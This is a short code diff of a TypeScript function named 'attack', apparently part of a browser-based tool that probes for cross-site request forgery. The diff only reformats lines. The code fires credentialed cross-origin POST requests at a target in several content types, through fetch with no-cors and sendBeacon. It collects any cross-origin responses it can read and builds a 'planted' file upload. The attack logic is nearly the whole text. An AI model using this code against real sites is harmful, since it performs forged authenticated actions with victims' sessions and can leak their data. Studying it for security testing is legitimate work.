@@ -37,13 +37,30 @@ export async function attack({ target, calls }: Attack): Promise<Tried> {
     for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
       await submit(url, type, input);
       tried.sent++;
-      await within(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: json, headers: { 'content-type': type } }));
+      await within(
+        fetch(url, {
+          method: 'POST',
+          mode: 'no-cors',
+          credentials: 'include',
+          body: json,
+          headers: { 'content-type': type },
+        }),
+      );
     }
     tried.sent += 6;
     navigator.sendBeacon(url, new Blob([json], { type: 'text/plain' }));
-    const readable = await within(fetch(url, { method: 'POST', credentials: 'include', body: json }).then((answer) => answer.text()));
+    const readable = await within(
+      fetch(url, { method: 'POST', credentials: 'include', body: json }).then((answer) => answer.text()),
+    );
     if (typeof readable === 'string' && target !== location.origin) tried.read.push(`${path} ${readable}`);
-    await within(fetch(url, { method: 'POST', credentials: 'include', body: json, headers: { 'content-type': 'application/json' } }));
+    await within(
+      fetch(url, {
+        method: 'POST',
+        credentials: 'include',
+        body: json,
+        headers: { 'content-type': 'application/json' },
+      }),
+    );
     const query = `${url}?${new URLSearchParams(input)}`;
     const file = new FormData();
     file.append('file', new Blob(['planted']), 'planted.txt');
